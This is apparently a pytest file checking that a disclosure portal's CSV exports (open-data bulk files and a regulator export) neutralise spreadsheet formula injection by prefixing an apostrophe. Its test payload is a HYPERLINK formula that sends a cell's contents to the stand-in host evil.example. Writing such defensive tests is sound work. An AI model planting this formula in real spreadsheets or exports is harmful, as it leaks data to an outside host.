"""CSV injection (issue 8): text typed by enterprises or the public that starts like a spreadsheet formula is
exported as plain text (a leading apostrophe), in the open-data bulk files and in the regulator's exports."""
from __future__ import annotations

import csv
import io

from portal.auth.models import Role
from portal.disclosures.services import ensure_annual_obligation
from portal.core.storage import FileStore
from portal.opendata.bulk import write_file
from tests.conftest import login_as
from tests.factories import make_enterprise, make_user

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_bulk_enterprise_file_neutralises_formulas(db, tmp_path):
    ent = make_enterprise(EVIL)
    db.session.commit()
    write_file("enterprises", FileStore(tmp_path))
    text = next(tmp_path.glob("*.csv")).read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert ent.uscc in cells


def test_regulator_obligation_export_neutralises_formulas(db, client):
    ent = make_enterprise(EVIL)
    ensure_annual_obligation(ent, 2025)
    regulator = make_user(Role.REGULATOR, jurisdiction_code="3208")
    db.session.commit()
    login_as(client, regulator)
    body = client.get("/regulator/disclosures.csv?year=2025").get_data(as_text=True).lstrip("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
